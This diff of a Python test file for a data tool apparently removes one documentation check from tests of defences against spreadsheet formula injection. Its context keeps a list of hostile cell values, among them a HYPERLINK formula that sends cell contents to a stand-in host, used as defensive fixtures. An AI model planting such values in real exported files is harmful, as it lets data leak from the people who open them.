@@ -19,7 +19,6 @@ from kanon.sources.reading import ReadSettings, read_table
 from kanon.sources.writing import table_bytes
 from kanon.studio.widgets import picture
 from support.dashboard import DATA, anonymised, choose, go, upload
-from support.paths import ROOT
 from support.random_tables import examples
 
 EVIL = ["=1+1", "+A1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", '=HYPERLINK("http://x/"&A1)']
@@ -70,12 +69,6 @@ def test_a_file_that_is_split_elsewhere_has_no_formula(kind, other):
     assert content.splitlines()[0] == f'"a"{"," if kind == "csv" else chr(9)}"b;\'=c"'
     found = read_table(content.encode(), f"t.{kind}", ReadSettings(None, "utf-8", ())).table
     assert [UNDO.sub("", cell) for cell in found["b;'=c"]] == cells
-
-
-def test_the_page_on_formulas_says_how_to_undo_it():
-    page = (ROOT / "docs" / "formulas.md").read_text("utf-8")
-    assert f'r"{UNDO.pattern}"' in page
-    assert "`'=1+1`" in page
 
 
 def table() -> pd.DataFrame:
